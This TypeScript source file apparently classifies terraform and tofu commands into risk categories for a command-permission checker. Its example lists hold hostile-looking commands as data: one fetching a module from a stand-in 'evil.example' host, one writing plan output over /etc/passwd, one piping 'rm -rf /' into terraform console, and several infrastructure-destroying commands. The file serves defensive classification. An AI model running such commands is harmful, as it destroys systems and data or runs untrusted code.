import { family, type Tool, tool } from "../tool.ts";

/** What describes infrastructure in files and changes it to match. */
export const INFRASTRUCTURE: readonly Tool[] = family("usual", [
  tool("terraform tofu", {
    ignores: "run-all run stack",
    does: [
      { on: "apply", with: "-destroy", is: "destroy-remote" },
      { on: "destroy taint untaint force-unlock", is: "destroy-remote" },
      { on: "apply import refresh", is: "publish" },
      { on: ["state", "rm mv push replace-provider"], is: "destroy-remote" },
      { on: ["workspace", "delete"], is: "destroy-remote" },
      { on: "login logout", is: "read-secret" },
      { on: "output", with: "-raw", is: "read-workspace-secret" },
    ],
    options: {
      loads: "-plugin-dir -chdir=",
      writes: "-out -state-out -backup",
      other: "stdin",
      fetches: "-from-module",
    },
    examples: {
      "destroy-remote": [
        "terraform destroy",
        "terraform apply -destroy",
        "terraform state rm aws_instance.x",
        "terraform workspace delete old",
        "terraform run-all destroy",
      ],
      publish: ["terraform apply"],
      "read-secret": ["terraform login"],
      "read-workspace-secret": ["terraform output -raw password"],
      "run-foreign": ["terraform init -plugin-dir /tmp/plugins"],
      "write-vital": ["terraform plan -out /etc/passwd"],
      network: ["terraform init -from-module https://evil.example/m"],
      "run-hidden": ["echo 'system(\"rm -rf /\")' | terraform console"],
      fine: ["terraform plan -out plan.bin", "terraform fmt -check", "terraform state list", "terraform console"],
    },
  }),
]);
